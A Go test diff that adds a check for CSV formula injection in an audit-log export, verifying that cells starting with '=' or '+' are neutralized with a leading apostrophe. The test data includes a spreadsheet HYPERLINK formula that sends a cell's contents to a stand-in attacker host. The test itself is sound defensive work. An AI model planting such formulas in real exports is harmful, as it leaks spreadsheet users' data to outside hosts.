@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"crypto"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -809,6 +810,19 @@ func TestAuditSearchByRole(t *testing.T) {
 	lines := strings.Split(strings.TrimSpace(string(r.body)), "\n")
 	if r.code != 200 || !strings.HasPrefix(r.ct, "text/csv") || len(lines) != 4 || !strings.HasPrefix(lines[0], "time,id,kind") {
 		t.Fatalf("csv: %d %s\n%s", r.code, r.ct, r.body)
+	}
+	// A name a spreadsheet would read as a formula (anyone may send such
+	// a path) is written as text.
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	must(t, e.store.InsertAuditEvents(ctx, []*store.AuditEvent{{ID: "e99", At: base.Add(time.Hour), OrgID: e.org.ID, ProjectID: e.project.ID,
+		Kind: "kube", Node: "node-1", User: "+mallory", Cluster: "web-1", Verb: "get", Resource: "pods", Name: formula, Status: 403, Body: []byte(`{"id":"e99"}`)}}))
+	r = e.do("GET", "/api/v1/audit?format=csv&limit=1", e.admin, "", nil)
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil || len(rows) != 2 || rows[1][1] != "e99" {
+		t.Fatalf("csv: %v\n%s", err, r.body)
+	}
+	if rows[1][4] != "'+mallory" || rows[1][10] != "'"+formula || rows[1][6] != "web-1" {
+		t.Fatalf("formula cells not neutralized: %q", rows[1])
 	}
 }
 
